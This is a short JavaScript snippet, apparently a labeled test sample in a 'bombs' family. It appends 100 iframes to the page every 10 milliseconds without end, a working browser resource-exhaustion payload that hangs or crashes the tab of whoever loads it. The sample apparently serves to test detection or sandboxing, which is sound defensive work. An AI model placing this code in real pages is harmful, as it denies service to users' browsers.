/* {"family": "bombs", "bomb": true, "watch": 5000} */
setInterval(() => { for (let i = 0; i < 100; i++) document.body.append(document.createElement('iframe')); }, 10);
